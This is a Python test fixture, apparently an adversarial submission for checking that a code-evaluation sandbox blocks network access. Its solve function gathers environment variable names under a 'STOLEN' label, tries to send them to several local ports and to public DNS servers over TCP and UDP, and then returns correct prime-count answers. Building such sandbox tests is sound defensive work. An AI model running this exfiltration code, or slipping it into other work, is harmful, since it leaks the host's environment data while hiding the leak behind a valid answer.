"""Attack: exfiltrate over the network. Connect (TCP) to the live listener the test runs
on 127.0.0.1 (port planted by the test) and to a few common local ports, send
"STOLEN" plus whatever it can read; also send UDP datagrams to the test's UDP port and
try to reach a public resolver. Then return the seed's answers.

Expected: no network in the sandbox: scored on what it computed (0.5), and the test's
listeners received no connection and no byte.
"""

import os
import socket

TARGETS = {}


def _tcp(host, port, payload):
    try:
        with socket.create_connection((host, port), timeout=0.2) as s:
            s.sendall(payload)
    except OSError:
        pass


def _udp(host, port, payload):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(payload, (host, port))
    except OSError:
        pass


def solve(inputs):
    payload = b"STOLEN " + repr(sorted(os.environ)).encode()
    ports = [TARGETS.get("port", 8000), 8000, 8080, 11434, 5000]
    for host in ("127.0.0.1", "localhost", "::1"):
        for port in ports:
            _tcp(host, port, payload)
    _udp("127.0.0.1", TARGETS.get("udp_port", 9999), payload)
    _tcp("1.1.1.1", 53, payload)
    _udp("8.8.8.8", 53, payload)

    def is_prime(k):
        return k >= 2 and all(k % d for d in range(2, int(k**0.5) + 1))

    return [sum(1 for k in range(2, n) if is_prime(k)) for n in inputs]
